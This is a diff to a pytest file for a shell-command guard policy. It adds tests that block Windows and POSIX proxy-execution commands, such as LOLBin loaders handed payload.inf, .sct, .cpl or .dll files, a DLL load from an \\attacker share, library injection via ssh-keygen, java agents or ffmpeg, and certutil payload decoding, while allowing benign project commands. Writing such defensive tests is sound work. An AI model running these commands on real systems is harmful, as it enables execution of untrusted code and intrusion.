@@ -1,7 +1,14 @@
 """Programs whose job is to run other code (Windows proxy execution): script hosts, DLL and control-panel
 loaders, installers, injectors, debuggers and launchers run code in forms the policy cannot read, so they are
 unverifiable; where what they run is a literal command (`conhost CMD`, Electron's launcher options), that
-command is checked like any other. Beside each, a harmless use of the same program stays allowed."""
+command is checked like any other. Beside each, a harmless use of the same program stays allowed.
+
+The class is recognised by what a program is handed, not by its name: a file only a code host runs
+(scriptlets, HTML applications, control-panel items, setup INFs, workflow markup) given to any program but a
+file tool is unverifiable; a program, library, script, source or build project from outside the project and
+the program folders is judged like a program run from there (`pixtool launch C:\\Users\\Public\\x.exe`,
+`ssh-keygen -D /tmp/lib.so`, `msbuild /logger:L,C:\\x\\l.dll`); the same files inside the project are the
+project's own (`dotnet test bin/x.dll`)."""
 
 from __future__ import annotations
 
@@ -49,6 +56,78 @@ ALLOWED = [
     "Get-Content notes.txt",
     "pytest tests/test_x.py::test_y",
 ]
+
+
+HANDED_CODE = [
+    ("powershell", "pnputil.exe -i -a C:\\Users\\Public\\payload.inf", "unverifiable.code-file"),
+    ("powershell", "wfc.exe payload.xoml", "unverifiable.code-file"),
+    ("powershell", "newloader.exe /i:payload.sct scrobj.dll", "unverifiable.code-file"),
+    ("powershell", "colorcpl payload.cpl", "unverifiable.code-file"),
+    ("powershell", "helpviewer.exe payload.chm", "unverifiable.code-file"),
+    ("powershell", "pixtool.exe launch C:\\Users\\Public\\payload.exe", "unverifiable.outside-program"),
+    ("powershell", "AppLauncher.exe C:\\Users\\Public\\payload.exe", "unverifiable.outside-program"),
+    (
+        "powershell",
+        "appcert.exe test -apptype desktop -setuppath C:\\Users\\Public\\payload.msi",
+        "unverifiable.outside-program",
+    ),
+    (
+        "powershell",
+        "msbuild.exe /logger:TargetLogger,C:\\Users\\Public\\payload.dll;MyParameters,Foo",
+        "unverifiable.outside-program",
+    ),
+    (
+        "powershell",
+        "vsls-agent.exe --agentExtensionPath C:\\Users\\Public\\payload.dll",
+        "unverifiable.outside-program",
+    ),
+    ("powershell", "rundll32ish.exe \\\\attacker\\share\\payload.dll,Entry", "network"),
+    ("posix", "ssh-keygen -D /tmp/lib.so", "unverifiable.outside-program"),
+    ("posix", "mysql --default-auth ../../../../../tmp/lib", "unverifiable.outside-program"),
+    ("posix", "ffmpeg -i in.wav -af ladspa=file=/tmp/lib.so out.wav", "unverifiable.outside-program"),
+    ("posix", "java -agentpath:/tmp/agent.so -jar app.jar", "unverifiable.outside-program"),
+    ("posix", "gcc /opt/AtomicRedTeam/src/test.c", "unverifiable.outside-program"),
+    ("posix", "cowsay -f /tmp/x.pl hi", "unverifiable.outside-program"),
+    ("posix", "swift /opt/payloads/keylogger.swift", "unverifiable.outside-program"),
+    ("powershell", "certutil -decode payload.b64 payload.exe", "unverifiable.payload-decode"),
+    (
+        "powershell",
+        "certutil -encode C:\\Windows\\System32\\calc.exe calc.txt",
+        "unverifiable.payload-decode",
+    ),
+]
+
+PROJECT_CODE = [
+    ("powershell", "Copy-Item payload.cpl backup\\"),
+    ("powershell", "Get-FileHash driver.inf"),
+    ("posix", "git add setup.inf"),
+    ("posix", "cp driver.inf dist/"),
+    ("powershell", "dotnet test bin\\Release\\App.Tests.dll"),
+    ("posix", "dotnet bin/Debug/net8.0/app.dll"),
+    ("powershell", "msbuild App.sln /p:Configuration=Release"),
+    ("powershell", "csc.exe -out:tool.exe tool.cs"),
+    ("posix", "ssh-keygen -t ed25519 -f ./deploy_key -N ''"),
+    ("posix", "java -jar build/app.jar"),
+    ("posix", "gcc -o build/app src/main.c"),
+    ("posix", "gcc -I/usr/include/python3.12 -c src/ext.c"),
+    ("posix", "ldd /usr/lib/libc.so.6"),
+    ("posix", "sha256sum /tmp/app.tar.gz"),
+    ("posix", "pytest tests/test_x.py"),
+    ("posix", "ruff check src/app.py"),
+    ("powershell", "certutil -hashfile app.zip SHA256"),
+]
+
+
+@pytest.mark.parametrize(("shell", "command", "expected"), HANDED_CODE)
+def test_code_handed_to_any_program_is_judged_by_what_and_where_it_is(
+    shell: str, command: str, expected: str
+) -> None:
+    guard_blocks(shell, command, expected)
+
+
+@pytest.mark.parametrize(("shell", "command"), PROJECT_CODE)
+def test_the_project_s_own_code_and_file_tools_stay_allowed(shell: str, command: str) -> None:
+    guard_allows(shell, command)
 
 
 @pytest.mark.parametrize(("command", "expected"), BLOCKED)
